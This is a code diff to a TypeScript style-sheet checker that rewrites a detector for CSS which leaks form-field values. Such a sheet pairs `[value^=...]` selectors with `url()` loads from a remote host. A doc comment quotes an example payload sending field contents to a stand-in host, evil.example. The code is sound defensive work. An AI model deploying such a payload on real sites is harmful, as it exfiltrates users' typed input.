@@ -1,7 +1,9 @@
 // Does a style run script? CSS is read with its comments taken out and its escapes undone (CSS Syntax 3 §4.3.7), which
 // is how the browsers that ran script from styles read it.
 
+import { charset, findIn, pastRun, SPACE, standsAt } from '../../runs.ts'
 import { work } from '../../work.ts'
+import { hostAt, intoValue } from './addresses.ts'
 
 const LOOK_MAX = 512
 /** What a character of a style takes, and one of a style with comments or escapes. */
@@ -35,10 +37,42 @@ export const imports = (style: string): boolean => {
 }
 
 /** A sheet that asks a stranger for a picture by what a field holds: `input[value^=a]{background:url(//evil.example/?a)}`. */
-export const leaksValues = (style: string): boolean =>
-  /\[\s{0,2}value\s{0,2}[\^$*]?=[^\]]{1,40}\][^{}]{0,40}\{[^}]{0,80}url\(\s{0,2}["']?(?:https?:)?\/\//i.test(
-    style.slice(0, LOOK_MAX),
-  )
+export const leaksValues = (style: string): boolean => {
+  const sheet = style.slice(0, LOOK_MAX).toLowerCase()
+  // From brace to brace: a block may stand within another one.
+  let from = 0
+  for (let open = sheet.indexOf('{'); open >= 0;) {
+    const brace = findIn(sheet, BRACES, open + 1)
+    const close = brace < 0 ? sheet.length : brace
+    if (sheet.charCodeAt(open) === OPENS && asksValue(sheet, from, open) && loadsFar(sheet, open, close))
+      return true
+    from = open + 1
+    open = brace
+  }
+  return false
+}
+
+const OPENS = 123
+const BRACES = charset('{}')
+
+/** `[value^=`: the selector sheet[from, to) compares what a field holds. */
+const asksValue = (sheet: string, from: number, to: number): boolean => {
+  for (let open = sheet.indexOf('[', from); open >= 0 && open < to; open = sheet.indexOf('[', open + 1)) {
+    const name = pastRun(sheet, open + 1, SPACE)
+    if (!sheet.startsWith('value', name)) continue
+    const sign = pastRun(sheet, name + 5, SPACE)
+    if (sheet.startsWith('=', standsAt(sheet, sign, COMPARES) ? sign + 1 : sign)) return true
+  }
+  return false
+}
+
+const COMPARES = charset('^$*~|')
+
+const loadsFar = (sheet: string, from: number, to: number): boolean => {
+  for (let at = sheet.indexOf('url(', from); at >= 0 && at < to; at = sheet.indexOf('url(', at + 1))
+    if (hostAt(sheet, intoValue(sheet, at + 4)) >= 0) return true
+  return false
+}
 
 const plainCss = (style: string): string => {
   work.left -= ESCAPED_WORK * style.length
